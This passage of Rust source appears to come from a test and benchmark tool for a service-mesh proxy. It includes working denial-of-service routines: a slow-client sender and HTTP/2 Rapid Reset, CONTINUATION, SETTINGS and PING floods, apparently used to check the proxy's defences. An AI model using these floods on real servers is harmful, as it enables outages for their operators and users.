        line.clear();
    }
    Ok(())
}

fn slow(
    to: SocketAddr,
    request: &str,
    interval: Duration,
    max: Duration,
    stall: bool,
) -> io::Result<()> {
    let prefix = request.replace("\\r", "\r").replace("\\n", "\n");
    let stream = open(to, Client::PLAIN)?;
    // Only the peer ends the wait.
    stream.set_read_timeout(None)?;
    let started = std::time::Instant::now();
    let reader = {
        let stream = stream.try_clone()?;
        thread::spawn(move || {
            let mut answer = String::new();
            // Until an answer, the end or a reset: the peer hung up, or
            // we did (after `max`).
            let _ = io::BufRead::read_line(&mut io::BufReader::new(stream), &mut answer);
            (started.elapsed(), answer)
        })
    };
    let mut writer = &stream;
    let filler = std::iter::repeat_n(b'a', if stall { 0 } else { usize::MAX });
    let mut bytes = prefix.bytes().chain(filler).peekable();
    let mut sent = 0u64;
    while !reader.is_finished() && started.elapsed() < max {
        // An interval of zero: an idle client, sending nothing.
        if interval.is_zero() || bytes.peek().is_none() {
            thread::sleep(Duration::from_millis(20));
            continue;
        }
        let Some(byte) = bytes.next() else { break };
        if writer.write_all(&[byte]).is_err() {
            break;
        }
        sent += 1;
        thread::sleep(interval);
    }
    let closed = reader.is_finished();
    let _ = stream.shutdown(std::net::Shutdown::Both);
    let (after, answer) = reader.join().expect("the reader panicked");
    println!(
        "{}",
        serde_json::json!({
            "closed_after_ms": closed.then_some(after.as_millis() as u64),
            "sent_bytes": sent,
            "answer": answer.trim_end(),
        })
    );
    Ok(())
}

#[derive(Clone, Copy, Debug, ValueEnum)]
enum Attack {
    /// HEADERS then RST_STREAM, stream after stream (CVE-2023-44487).
    RapidReset,
    /// One HEADERS without END_HEADERS, then CONTINUATION frames forever
    /// (CVE-2024-27316 and kin).
    Continuation,
    /// SETTINGS frames, each to be acknowledged, as fast as it goes
    /// (CVE-2019-9515).
    Settings,
    /// PING frames, each to be answered (CVE-2019-9512).
    Ping,
    /// 1,000 requests whose bodies never come, on one connection: past
    /// the peer's stream limit each should be refused (`refused` counts
    /// RST_STREAM REFUSED_STREAM); then the connection is closed.
    Streams,
    /// The preface and SETTINGS, then nothing (for up to a minute): an
    /// idle connection, which the peer should close in time.
    Idle,
}

// HTTP/2 frame types and flags (RFC 9113 §6).
const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// One HTTP/2 frame: 9-byte head (length, type, flags, stream) + payload.
fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = Vec::with_capacity(9 + payload.len());
    frame.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    frame.push(kind);
    frame.push(flags);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// An HPACK header block: `GET /` for `:authority r`, or `CONNECT` to
/// `authority`; every field a literal or a static-table entry, so that the
/// same block can be sent again and again.
fn h2_request(connect: Option<&str>) -> Vec<u8> {
    match connect {
        // :method GET, :scheme http, :path / (indexed), then :authority
        // "r" (literal, indexed name 1, not indexed).
        None => vec![0x82, 0x86, 0x84, 0x01, 0x01, b'r'],
        // :method (name 2) CONNECT and :authority (name 1), both literal,
        // not indexed; short enough for one-byte lengths.
        Some(authority) => {
            let mut block = vec![0x02, 7];
            block.extend_from_slice(b"CONNECT");
            let length = u8::try_from(authority.len())
                .ok()
                .filter(|length| *length < 0x7f)
                .expect("an authority under 127 bytes");
            block.extend([0x01, length]);
            block.extend_from_slice(authority.as_bytes());
            block
        }
    }
}

fn h2_flood(
    to: SocketAddr,
    attack: Attack,
    max_bytes: u64,
    connect: Option<&str>,
) -> io::Result<()> {
    use std::sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    };
    const REFUSED_STREAM: u32 = 0x7;
    let request = h2_request(connect);

    let stream = open(to, Client::PLAIN)?;
    let started = std::time::Instant::now();
    let quiet = if matches!(attack, Attack::Idle) {
        60
    } else {
        10
    };
    stream.set_read_timeout(Some(Duration::from_secs(quiet)))?;
    // A peer that stops reading without hanging up must not hold us.
    stream.set_write_timeout(Some(Duration::from_secs(10)))?;
    let hung_up = Arc::new(AtomicBool::new(false));
    // A PING the peer acknowledged: it has read every frame before it.
    let ponged = Arc::new(AtomicBool::new(false));
    let reader = {
        let mut stream = stream.try_clone()?;
        let hung_up = hung_up.clone();
        let ponged = ponged.clone();
        thread::spawn(move || {
            let (mut goaway, mut responses, mut refused) = (None, 0u64, 0u64);
            let mut goaway_at = None;
            let mut head = [0u8; 9];
            while stream.read_exact(&mut head).is_ok() {
                let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
                let mut payload = vec![0; length];
                if stream.read_exact(&mut payload).is_err() {
                    break;
                }
                match head[3] {
                    GOAWAY if length >= 8 => {
                        goaway = Some(u32::from_be_bytes([
                            payload[4], payload[5], payload[6], payload[7],
                        ]));
                        goaway_at.get_or_insert(started.elapsed());
                    }
                    HEADERS => responses += 1,
                    PING if head[4] & 0x1 != 0 && payload == *b"mesh-pod" => {
                        ponged.store(true, Ordering::SeqCst);
                    }
                    RST_STREAM
                        if length == 4
                            && u32::from_be_bytes([
                                payload[0], payload[1], payload[2], payload[3],
                            ]) == REFUSED_STREAM =>
                    {
                        refused += 1;
                    }
                    _ => {}
                }
            }
            hung_up.store(true, Ordering::SeqCst);
            (goaway, goaway_at, responses, refused, started.elapsed())
        })
    };

    let mut writer = &stream;
    let mut sent = 0u64;
    // A write that timed out: the peer stopped reading but stayed.
    let mut stalled = false;
    let mut send = |bytes: &[u8]| -> bool {
        if hung_up.load(Ordering::SeqCst) || sent >= max_bytes {
            return false;
        }
        match writer.write_all(bytes) {
            Ok(()) => {
                sent += bytes.len() as u64;
                true
            }
            Err(error) => {
                stalled = matches!(
                    error.kind(),
                    io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
                );
                false
            }
        }
    };
    let mut preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    preface.extend(h2_frame(SETTINGS, 0, 0, &[]));
    let mut streams = 0u32;
    if send(&preface) {
        match attack {
            Attack::RapidReset => {
                // 100 open-and-cancel pairs per write, as fast as it goes.
                let mut id = 1u32;
                loop {
                    let mut batch = Vec::new();
                    for _ in 0..100 {
                        batch.extend(h2_frame(HEADERS, END_STREAM | END_HEADERS, id, &request));
                        batch.extend(h2_frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
                        id += 2;
                    }
                    if id >= 1 << 30 || !send(&batch) {
                        break;
                    }
                    streams = id / 2;
                }
            }
            Attack::Continuation => {
                streams = 1;
                let mut first = h2_frame(HEADERS, END_STREAM, 1, &request);
                // Each CONTINUATION adds one small header field; none ends
                // the block.
                let field = [&[0x00, 0x03][..], b"x-a", &[0x01], b"b"].concat();
                let more = h2_frame(CONTINUATION, 0, 1, &field);
                first.extend_from_slice(&more);
                let batch: Vec<u8> = more
                    .iter()
                    .copied()
                    .cycle()
                    .take(more.len() * 100)
                    .collect();
                if send(&first) {
                    while send(&batch) {}
                }
            }
            Attack::Settings | Attack::Ping => {
                let frame = match attack {
                    Attack::Settings => h2_frame(SETTINGS, 0, 0, &[]),
                    _ => h2_frame(PING, 0, 0, &[0; 8]),
                };
                let batch: Vec<u8> = frame
                    .iter()
                    .copied()
                    .cycle()
                    .take(frame.len() * 1000)
                    .collect();
                while send(&batch) {}
            }
            Attack::Streams => {
                let mut batch = Vec::new();
                for id in (1..2000u32).step_by(2) {
                    batch.extend(h2_frame(HEADERS, END_HEADERS, id, &request));
                }
                streams = 1000;
                // Then a PING: once it is acknowledged, the peer has read
                // every HEADERS, and answered each.
                batch.extend(h2_frame(PING, 0, 0, b"mesh-pod"));
                if send(&batch) {
                    let deadline = std::time::Instant::now() + Duration::from_secs(10);
                    while !ponged.load(Ordering::SeqCst)
                        && !hung_up.load(Ordering::SeqCst)
                        && std::time::Instant::now() < deadline
                    {
                        thread::sleep(Duration::from_millis(10));
                    }
                }
            }
            Attack::Idle => {
                while !hung_up.load(Ordering::SeqCst) {
                    thread::sleep(Duration::from_millis(10));
                }
            }
        }
    }
    let _ = stream.shutdown(std::net::Shutdown::Write);
    let (goaway, goaway_at, responses, refused, ended) =
        reader.join().expect("the reader panicked");
    println!(
        "{}",
        serde_json::json!({
            "goaway": goaway,
            "sent_bytes": sent,
            "streams": streams,
            "responses": responses,
            "refused": refused,
            "gave_up": sent >= max_bytes || stalled,
            "goaway_after_ms": goaway_at.map(|at: Duration| at.as_millis() as u64),
            "ended_after_ms": ended.as_millis() as u64,
        })
    );
    Ok(())
}

/// Reads a message head (through the blank line); `None` at a clean end.
fn read_head(reader: &mut impl io::BufRead) -> io::Result<Option<String>> {
    let mut head = String::new();
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line)? == 0 {
            return if head.is_empty() {
                Ok(None)
            } else {
                Err(io::ErrorKind::UnexpectedEof.into())
            };
        }
        if line == "\r\n" || line == "\n" {
            return Ok(Some(head));
        }
        head.push_str(&line);
    }
}

fn chunked(head: &str) -> bool {
    head.lines()
        .filter_map(|line| line.split_once(':'))
        .any(|(name, value)| {
            name.trim().eq_ignore_ascii_case("transfer-encoding")
                && value.trim().eq_ignore_ascii_case("chunked")
        })
}

/// Reads a chunked body through its last chunk and trailers.
fn skip_chunks(reader: &mut impl io::BufRead) -> io::Result<()> {
    copy_chunks(reader, &mut io::sink())
}

/// Reads a chunked body through its last chunk and trailers, its data
/// into `out`.
fn copy_chunks(reader: &mut impl io::BufRead, out: &mut impl io::Write) -> io::Result<()> {
    loop {
        let mut line = String::new();
        reader.read_line(&mut line)?;
        let size = line.trim().split(';').next().unwrap_or("");
        let size = u64::from_str_radix(size, 16)
            .map_err(|_| io::Error::new(io::ErrorKind::InvalidData, "bad chunk size"))?;
        if size == 0 {
            // Trailers, then the blank line.
            while read_line_of(reader)? {}
            return Ok(());
        }
        io::copy(&mut reader.take(size), out)?;
        let mut end = [0u8; 2];
        reader.read_exact(&mut end)?;
        if &end != b"\r\n" {
            return Err(io::Error::new(
                io::ErrorKind::InvalidData,
                "a chunk without its line end",
            ));
        }
    }
}

/// Reads one line; false once it is the blank line (or the end).
fn read_line_of(reader: &mut impl io::BufRead) -> io::Result<bool> {
    let mut line = String::new();
    let n = reader.read_line(&mut line)?;
    Ok(n > 0 && line.trim_end() != "")
}

fn content_length(head: &str) -> u64 {
    head.lines()
        .filter_map(|line| line.split_once(':'))
        .find(|(name, _)| name.trim().eq_ignore_ascii_case("content-length"))
        .and_then(|(_, value)| value.trim().parse().ok())
        .unwrap_or(0)
}

/// Sends `request_line` (`METHOD /path`) with `headers` `count` times and
/// prints what came back: statuses, the proxy's flags, and each distinct
/// body of the 200s.
fn http_get(
    to: SocketAddr,
    request_line: &str,
    headers: &[String],
    count: u32,
    keep_alive: bool,
) -> ExitCode {
    use std::collections::BTreeMap;
    let mut failures = Vec::new();
    let mut failed = 0u32;
    let mut bytes = 0u64;
    let mut bodies = BTreeMap::<String, u32>::new();
    let mut statuses = BTreeMap::<String, u32>::new();
    let mut flags = BTreeMap::<String, u32>::new();
    let extra: String = headers.iter().map(|h| format!("{h}\r\n")).collect();
    let mut connection: Option<(io::BufReader<TcpStream>, TcpStream)> = None;
    for attempt in 0..count {
        let result: io::Result<_> = (|| {
            let (reader, writer) = match &mut connection {
                Some(open) if keep_alive => open,
                _ => {
                    let stream = open(to, Client::PLAIN)?;
                    stream.set_nodelay(true)?;
                    // An answer that stops coming is a failure, not a hang.
                    stream.set_read_timeout(Some(Duration::from_secs(30)))?;
                    connection.insert((io::BufReader::new(stream.try_clone()?), stream))
                }
            };
            writer.write_all(
                format!(
                    "{request_line} HTTP/1.1\r\nhost: {to}\r\n{extra}content-length: 0\r\n\r\n"
                )
                .as_bytes(),
            )?;
            let head = read_head(reader)?.ok_or(io::ErrorKind::UnexpectedEof)?;
            let status = head.split(' ').nth(1).unwrap_or("").to_owned();
            let flag = head
                .lines()
                .filter_map(|line| line.split_once(':'))
                .find(|(name, _)| name.trim().eq_ignore_ascii_case("x-mesh-flags"))
                .map(|(_, value)| value.trim().to_owned());
            let body = if chunked(&head) {
                let mut body = Vec::new();
                copy_chunks(reader, &mut body).map(|()| body)
            } else {
                let length = content_length(&head);
                let mut body = vec![0u8; usize::try_from(length).unwrap_or(0)];
                io::Read::read_exact(reader, &mut body).map(|()| body)
            };
            // A body that breaks off after its head: say which head.
            let body = body.map_err(|error| {
                io::Error::new(
                    error.kind(),
                    format!("status {status}, then the body broke off: {error}"),
                )
            })?;
            Ok((status, flag, body))
        })();
        match result {
            Ok((status, flag, body)) => {
                *statuses.entry(status.clone()).or_default() += 1;
                if let Some(flag) = flag {
                    *flags.entry(flag).or_default() += 1;
                }
                if status == "200" {
                    bytes += body.len() as u64;
                    *bodies
                        .entry(String::from_utf8_lossy(&body).into_owned())
                        .or_default() += 1;
                } else {
                    failed += 1;
                    if failures.len() < 20 {
                        failures.push(format!("request {attempt}: status {status}"));
                    }
                }
            }
            Err(error) => {
                failed += 1;
                if failures.len() < 20 {
                    failures.push(format!("request {attempt}: {error}"));
                }
                connection = None;
            }
        }
    }
    let summary = serde_json::json!({
        "to": to.to_string(),
        "attempted": count,
        "ok": count - failed,
        "body_bytes": bytes,
        "bodies": bodies,
        "statuses": statuses,
        "flags": flags,
        "failures": failures,
    });
    println!("{summary}");
    if failed == 0 {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}

fn http_loop(to: SocketAddr, for_ms: u64, every_ms: u64) -> io::Result<()> {
    const ANSWER_TIMEOUT: Duration = Duration::from_secs(6);
    let once = || -> io::Result<String> {
        let stream = TcpStream::connect_timeout(&to, ANSWER_TIMEOUT)?;
        stream.set_read_timeout(Some(ANSWER_TIMEOUT))?;
        let mut writer = stream.try_clone()?;
        writer.write_all(
            format!("GET / HTTP/1.1\r\nhost: {to}\r\nconnection: close\r\n\r\n").as_bytes(),
        )?;
        let mut reader = io::BufReader::new(stream);
        let head = read_head(&mut reader)?.ok_or(io::ErrorKind::UnexpectedEof)?;
        Ok(head.split(' ').nth(1).unwrap_or("").to_owned())
    };
    let started = std::time::Instant::now();
    let ms = |at: std::time::Instant| at.duration_since(started).as_millis() as u64;
    let (mut requests, mut ok) = (0u64, 0u64);
    let mut slowest = Duration::ZERO;
    let mut windows: Vec<serde_json::Value> = Vec::new();
    // The open streak: when it began, how many failed, how.
    let mut streak: Option<(u64, u64, std::collections::BTreeMap<String, u64>)> = None;
    let mut last_ok = false;
    while started.elapsed() < Duration::from_millis(for_ms) {
        let sent = std::time::Instant::now();
        let outcome = once();
        slowest = slowest.max(sent.elapsed());
        requests += 1;
        last_ok = matches!(&outcome, Ok(status) if status == "200");
        if last_ok {
            ok += 1;
            if let Some((from, failed, how)) = streak.take() {
                let to = ms(sent);
                println!("recovered from_ms={from} to_ms={to} failed={failed}");
                windows.push(serde_json::json!({
                    "from_ms": from, "to_ms": to, "failed": failed, "how": how,
                }));
            }
        } else {
            let how = match outcome {
                Ok(status) => format!("status {status}"),
                Err(error) => format!("{:?}", error.kind()),
            };
            let (_, failed, kinds) =
                streak.get_or_insert_with(|| (ms(sent), 0, Default::default()));
            *failed += 1;
            *kinds.entry(how).or_default() += 1;
        }
        std::thread::sleep(Duration::from_millis(every_ms).saturating_sub(sent.elapsed()));
    }
    if let Some((from, failed, how)) = streak {
        windows.push(
            serde_json::json!({"from_ms": from, "to_ms": null, "failed": failed, "how": how}),
        );
    }
    println!(
        "{}",
        serde_json::json!({
            "requests": requests,
            "ok": ok,
            "windows": windows,
            "slowest_ms": slowest.as_millis() as u64,
            "recovered": last_ok,
        })
    );
    Ok(())
}

fn report(what: &str, result: io::Result<()>) -> ExitCode {
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            eprintln!("mesh-pod {what}: {error}");
            ExitCode::FAILURE
        }
    }
}

/// One keep-alive GET and its answer on `connection`.
fn get_once(
    reader: &mut io::BufReader<TcpStream>,
    writer: &mut TcpStream,
    to: SocketAddr,
) -> io::Result<()> {
    writer.write_all(format!("GET /bench HTTP/1.1\r\nhost: {to}\r\n\r\n").as_bytes())?;
    let head = read_head(reader)?.ok_or(io::ErrorKind::UnexpectedEof)?;
    let mut body = vec![0u8; usize::try_from(content_length(&head)).unwrap_or(0)];
    reader.read_exact(&mut body)?;
    if head.split(' ').nth(1) != Some("200") {
        return Err(io::Error::other(format!("answered {head:?}")));
    }
    Ok(())
}

fn bench_http(
    to: SocketAddr,
    connections: usize,
    requests: usize,
    new_connections: bool,
) -> io::Result<()> {
    let connections = connections.max(1);
    let per_connection = requests.div_ceil(connections);
    let started = std::time::Instant::now();
    let workers: Vec<_> = (0..connections)
        .map(|_| {
            thread::spawn(move || -> io::Result<Vec<Duration>> {
                let mut samples = Vec::with_capacity(per_connection);
                if new_connections {
                    for _ in 0..per_connection {
                        let start = std::time::Instant::now();
                        let mut writer = open(to, Client::PLAIN)?;
                        writer.set_nodelay(true)?;
                        let mut reader = io::BufReader::new(writer.try_clone()?);
                        get_once(&mut reader, &mut writer, to)?;
                        samples.push(start.elapsed());
                    }
                    return Ok(samples);
                }
                let mut writer = open(to, Client::PLAIN)?;
                writer.set_nodelay(true)?;
                let mut reader = io::BufReader::new(writer.try_clone()?);
                // Warm-up: the tunnel, the pooled connection, the caches.
                for _ in 0..per_connection / 10 {
                    get_once(&mut reader, &mut writer, to)?;
                }
                for _ in 0..per_connection {
                    let start = std::time::Instant::now();
                    get_once(&mut reader, &mut writer, to)?;
                    samples.push(start.elapsed());
                }
                Ok(samples)
            })
        })
        .collect();
    let mut samples = Vec::new();
    for worker in workers {
        samples.extend(
            worker
                .join()
                .map_err(|_| io::Error::other("a worker panicked"))??,
        );
    }
    // The rate counts the timed requests over the whole run, warm-up
    // included in the time: a slight underestimate, never an overestimate.
    let elapsed = started.elapsed().as_secs_f64();
    let warm_up = if new_connections {
        0
    } else {
        connections * (per_connection / 10)
    };
    samples.sort();
    let micros = |q: f64| {
        let index = ((samples.len() as f64 * q) as usize).min(samples.len() - 1);
        samples[index].as_secs_f64() * 1e6
    };
    println!(
        "{}",
        serde_json::json!({
            "to": to.to_string(),
            "connections": connections,
            "requests": samples.len(),
            // Timed or not: what the path carried.
            "sent": samples.len() + warm_up,
            "min_us": micros(0.0),
            "p50_us": micros(0.50),
            "p90_us": micros(0.90),
            "p99_us": micros(0.99),
            "p999_us": micros(0.999),
            "max_us": micros(1.0),
            "requests_per_second": samples.len() as f64 / elapsed,
        })
    );
    Ok(())
}

fn sink(listen: SocketAddr) -> io::Result<()> {
    let listener = TcpListener::bind(listen)?;
    println!("listening {}", listener.local_addr()?);
    io::stdout().flush()?;
    for stream in listener.incoming() {
        let mut stream = stream?;
        thread::spawn(move || -> io::Result<()> {
            let received = io::copy(&mut stream, &mut io::sink())?;
            stream.write_all(&received.to_be_bytes())
        });
    }
    Ok(())
}

fn bulk(to: SocketAddr, bytes: u64) -> io::Result<()> {
    let mut stream = open(to, Client::PLAIN)?;
    stream.set_read_timeout(Some(Duration::from_secs(120)))?;
    let chunk = vec![0x5au8; 256 << 10];
    let started = std::time::Instant::now();
    let mut left = bytes;
    while left > 0 {
        let n = usize::try_from(left.min(chunk.len() as u64)).unwrap_or(chunk.len());
        stream.write_all(&chunk[..n])?;
        left -= n as u64;
    }
    stream.shutdown(std::net::Shutdown::Write)?;
    let mut count = [0u8; 8];
    stream.read_exact(&mut count)?;
    let seconds = started.elapsed().as_secs_f64();
    let received = u64::from_be_bytes(count);
    if received != bytes {
        return Err(io::Error::other(format!(
            "the sink got {received} of {bytes} bytes"
        )));
    }
    println!(
        "{}",
        serde_json::json!({
            "to": to.to_string(),
            "bytes": bytes,
            "seconds": seconds,
            "gbit_per_second": bytes as f64 * 8.0 / seconds / 1e9,
        })
    );
    Ok(())
}
